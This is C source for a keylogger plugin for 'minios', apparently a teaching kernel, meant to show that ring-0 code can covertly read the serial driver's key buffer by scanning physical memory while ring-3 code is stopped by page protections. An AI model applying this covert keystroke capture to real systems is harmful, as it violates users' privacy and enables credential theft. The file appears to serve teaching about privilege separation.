// keylog: a key logger. It records each key that somebody types on the console.
//
//   subscribes to   no security event: the kernel has none for keys
//   reports         "key": the code of each key, in the order of typing
//   rings           works in ring 0; in ring 3 the CPU stops it
//
// In ring 0 it searches the kernel's memory for the buffer in which the driver of the
// serial line collects the keys, and reads along. The shell still gets every key, so
// nobody notices. In ring 3 the same search ends at its first read: the page tables say
// that this page is not for ring 3, so the CPU refuses. The kernel ends the process.
#include <minios/plugin.h>

// Private to minios/kernel/devices/serial.c. Nobody promises that it stays like this.
struct uart {
    uint16_t port;
    unsigned irq;
    void *readers;
    size_t head, count;
    bool receiving;
    char ring[4096];
};

static const struct uart *uart;
static size_t seen;  // the place in the ring up to which the keys are reported

static size_t end_of_keys(void)
{
    return (uart->head + uart->count) % sizeof(uart->ring);
}

// Looks through the direct map: the addresses at which the kernel has mapped all
// physical memory. Not inlined, so that the fault in ring 3 names this function.
[[gnu::noinline]] static const struct uart *find_uart(void)
{
    for (uint64_t at = KERNEL_PHYSICAL; at < RAM_BYTES; at += sizeof(uint64_t)) {
        const struct uart *found = (const struct uart *)(DIRECT_MAP + at);
        if (found->port == PORT_CONSOLE_UART && found->irq == IRQ_CONSOLE) {
            return found;
        }
    }
    return NULL;
}

static void report_keys(void *unused)
{
    (void)unused;
    for (; seen != end_of_keys(); seen = (seen + 1) % sizeof(uart->ring)) {
        plugin_report_value("key", (uint8_t)uart->ring[seen]);
    }
}

// An interrupt routine must be short, so the work is left for a deferred call.
static void on_interrupt(void *unused)
{
    (void)unused;
    (void)!plugin_defer(report_keys, NULL, 0);
}

static int keylog_start(void)
{
    uart = find_uart();  // in ring 3 the process ends in here
    if (uart == NULL) {
        return -ERROR_NOT_FOUND;
    }
    seen = end_of_keys();
    return (int)plugin_connect_interrupt(IRQ_CONSOLE, on_interrupt, NULL);
}

// Without this, the next key would call code that is gone.
static void keylog_stop(void)
{
    (void)!plugin_disconnect_interrupt(IRQ_CONSOLE, on_interrupt, NULL);
}

const struct plugin plugin = {
    .name = "keylog",
    .start = keylog_start,
    .stop = keylog_stop,
};
